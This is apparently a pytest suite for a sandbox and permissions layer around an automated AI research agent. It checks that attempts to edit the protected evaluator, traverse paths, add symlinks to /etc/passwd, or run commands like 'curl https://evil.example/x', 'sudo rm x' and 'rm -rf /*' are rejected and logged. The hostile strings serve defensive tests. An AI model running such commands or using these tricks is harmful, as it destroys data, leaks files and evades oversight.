"""[permissions]: each violation is rejected as ``policy: <rule>`` and logged in the audit log."""

from __future__ import annotations

import shutil
import socket
import threading
from pathlib import Path

import pytest
from tests.conftest import SPEC, TARGET_PY, git

from nightlab.audit import read_records, verify
from nightlab.engine import Engine
from nightlab.errors import SpecError
from nightlab.permissions import command_allowed, command_parts, host_allowed, rule_of
from nightlab.researchers.scripted import ScriptedResearcher
from nightlab.spec import PermissionsSpec, load_spec
from nightlab.types import Status

HAVE_BWRAP = shutil.which("bwrap") is not None


def with_spec(extra: str, base: str = SPEC) -> str:
    return base.replace("max_experiments = 3", "max_experiments = 50") + extra


def audit_records(lab: Path) -> list[dict]:
    return list(read_records(lab / ".nightlab" / "audit.jsonl"))


def test_each_violation_is_rejected_with_its_rule_and_logged(make_lab, tmp_path):
    spec = with_spec("\n[permissions]\nmax_diff_bytes = 2000\nmax_new_files = 2\n",
                     SPEC.replace('editable = ["target.py"]', 'editable = ["target.py", "notes/*.txt"]'))
    lab = make_lab(files={"notes/a.txt": "a\n"}, spec=spec)
    symlink = ("diff --git a/notes/leak.txt b/notes/leak.txt\nnew file mode 120000\n"
               "index 0000000..1111111\n--- /dev/null\n+++ b/notes/leak.txt\n@@ -0,0 +1 @@\n"
               "+/etc/passwd\n\\ No newline at end of file\n")
    steps = [
        {"rationale": "protected", "files": {"evaluate.py": "print('gamed')\n"}},
        {"rationale": "editable", "files": {"README.md": "hi\n"}},
        {"rationale": "path", "files": {"../evil.py": "x = 1\n"}},
        {"rationale": "file_type", "diff": symlink},
        {"rationale": "max_diff_bytes", "files": {"target.py": TARGET_PY + "# " + "x" * 3000 + "\n"}},
        {"rationale": "max_new_files", "files": {f"notes/n{i}.txt": f"{i}\n" for i in range(3)}},
        {"rationale": "fine", "files": {"notes/n1.txt": "1\n", "notes/n2.txt": "2\n"}},
    ]
    eng = Engine(lab, tag="p", researcher=ScriptedResearcher(steps), sandbox_mode="none", max_experiments=7)
    session = eng.run()
    exps = eng.ledger.experiments(session.id)[1:]
    rules = ["protected", "editable", "path", "file_type", "max_diff_bytes", "max_new_files"]
    assert [e.status for e in exps] == [Status.REJECTED] * 6 + [Status.DISCARD]
    for e, rule in zip(exps, rules, strict=False):
        assert e.reason.startswith(f"policy: {rule} ("), e.reason
        assert rule_of(e.reason) == rule
        assert e.exit_code is None and e.run_s == 0  # nothing ran
    assert "(3002" not in exps[4].reason and "> 2000)" in exps[4].reason
    assert "3 > 2" in exps[5].reason
    # the ledger keeps a bounded diff
    assert "[nightlab: diff cut at 2000" in exps[4].diff and len(exps[4].diff) < 2200
    eng.close()
    recs = audit_records(lab)
    violations = [(r["experiment"], r["data"]["rule"]) for r in recs if r["kind"] == "policy.violation"]
    assert violations == [(i + 1, rule) for i, rule in enumerate(rules)]
    decisions = {r["experiment"]: r["data"] for r in recs if r["kind"] == "decision"}
    assert all(decisions[i + 1]["status"] == "rejected" for i in range(6))
    assert verify(lab / ".nightlab" / "audit.jsonl").ok
    assert not (lab.parent / "evil.py").exists()
    assert git(lab, "rev-parse", "nightlab/p").strip() == session.base_commit


def test_a_protected_file_changed_behind_the_guards_back_is_a_violation(make_lab):
    """The per-run protected-hash check also reports ``policy: protected``."""
    lab = make_lab(spec=with_spec(""))

    def step(ctx):
        from nightlab.types import Candidate

        # after the baseline: as if evaluate.py had changed since the session started
        eng.protected_hashes = {**eng.protected_hashes, "evaluate.py": "0" * 64}
        return Candidate(parent=ctx.parent, rationale="x",
                         files={"target.py": TARGET_PY.replace("3.0", "2.0")})

    eng = Engine(lab, tag="h", researcher=ScriptedResearcher([step]), sandbox_mode="none", max_experiments=1)
    session = eng.run()
    exp = eng.ledger.experiments(session.id)[-1]
    assert exp.status is Status.REJECTED and exp.reason.startswith("policy: protected (evaluate.py")
    eng.close()


def test_max_policy_violations_stops_the_session(make_lab):
    lab = make_lab(spec=with_spec("").replace("[stop]\n", "[stop]\nmax_policy_violations = 3\n"))
    bad = ScriptedResearcher([{"rationale": "bad", "files": {"evaluate.py": "x"}}])
    eng = Engine(lab, tag="v", researcher=bad, sandbox_mode="none")
    session = eng.run()
    assert session.stop_reason == "max_policy_violations: 3 candidates broke [permissions]"
    assert [e.status for e in eng.ledger.experiments(session.id)] == [Status.KEEP] + [Status.REJECTED] * 3
    eng.close()
    stop = [r for r in audit_records(lab) if r["kind"] == "session.stop"][-1]
    assert stop["data"]["reason"].startswith("max_policy_violations")


def test_agent_command_patterns():
    p = PermissionsSpec()
    assert p.agent_command_allowed("python train.py --steps 10")
    assert p.agent_command_allowed("ls -la && cat train.py | head")
    for cmd in ("curl https://evil.example/x", "ls && curl x", "echo $(curl x)", "echo `wget x`",
                "git push origin main", "sudo rm x", "cat .nightlab/ledger.db", "ls\nssh host",
                "cp x .git/hooks/pre-commit", "(cd /; rm -rf /*)"):
        assert not p.agent_command_allowed(cmd), cmd
    allow = ["python *", "ls*", "cat *"]
    assert command_allowed("python train.py", allow, [])
    assert not command_allowed("make all", allow, [])
    assert not command_allowed("python a.py; make", allow, [])
    assert not command_allowed("python evil.py", allow, ["python evil*"])  # deny wins
    assert command_parts("a  b&&c||d|e;f\ng") == ["a b", "c", "d", "e", "f", "g"]
    assert not command_allowed("", ["ls"], []) and command_allowed("", [], [])


def test_researcher_network_setting():
    assert host_allowed("api.openai.com", "on") and not host_allowed("api.openai.com", "off")
    hosts = ["api.anthropic.com", "*.openai.com"]
    assert host_allowed("api.anthropic.com", hosts) and host_allowed("API.OpenAI.com.", hosts)
    assert not host_allowed("evil.example", hosts) and not host_allowed("anthropic.com", hosts)
    assert PermissionsSpec(researcher_network=hosts).researcher_host_allowed("x.openai.com")
    assert not PermissionsSpec(researcher_network="off").researcher_host_allowed("x.openai.com")


def test_run_network_is_the_one_setting_and_sandbox_network_its_alias(make_lab):
    lab = make_lab()
    spec = load_spec(lab)
    assert spec.permissions.run_network is False and spec.sandbox.network is False
    (lab / "nightlab.toml").write_text(SPEC + "\n[sandbox]\nnetwork = true\n")
    spec = load_spec(lab)
    assert spec.permissions.run_network is True and spec.sandbox.network is True
    (lab / "nightlab.toml").write_text(SPEC + "\n[permissions]\nrun_network = true\n")
    assert load_spec(lab).sandbox.network is True
    (lab / "nightlab.toml").write_text(SPEC + "\n[sandbox]\nnetwork = true\n"
                                       "[permissions]\nrun_network = false\n")
    with pytest.raises(SpecError, match="disagree"):
        load_spec(lab)
    (lab / "nightlab.toml").write_text(SPEC + "\n[permissions]\nresearcher_network = 'sometimes'\n")
    with pytest.raises(SpecError, match="researcher_network"):
        load_spec(lab)
    (lab / "nightlab.toml").write_text(SPEC + "\n[permissions]\nmax_new_files = -2\n")
    with pytest.raises(SpecError, match="max_new_files"):
        load_spec(lab)


PROBE = '''\
import os, socket
try:
    socket.create_connection(("127.0.0.1", int(os.environ["PROBE_PORT"])), timeout=2).close()
    ok = 1
except OSError:
    ok = 0
print("---")
print(f"score: {ok}")
'''


@pytest.mark.skipif(not HAVE_BWRAP, reason="bwrap not installed")
@pytest.mark.parametrize("allowed", [False, True])
def test_run_network_is_enforced_by_the_sandbox(make_lab, allowed):
    """A run reaches a server on the host only with run_network = true (bwrap: a private loopback)."""
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                server.accept()[0].close()
            except OSError:
                continue

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        spec = SPEC.replace("[stop]", f'[run.env]\nPROBE_PORT = "{port}"\n\n[stop]') + (
            f"\n[permissions]\nrun_network = {'true' if allowed else 'false'}\n")
        lab = make_lab(files={"target.py": PROBE}, spec=spec)
        eng = Engine(lab, tag="n", researcher=ScriptedResearcher([{"rationale": "x", "files": {}}]),
                     sandbox_mode="required", max_experiments=0)
        session = eng.run()
        assert session.baseline_metric == (1.0 if allowed else 0.0)
        eng.close()
        sb = next(r for r in audit_records(lab) if r["kind"] == "sandbox.start")
        assert sb["data"]["network"] is allowed and sb["data"]["mode"] == "bwrap"
    finally:
        stop.set()
        t.join()
        server.close()
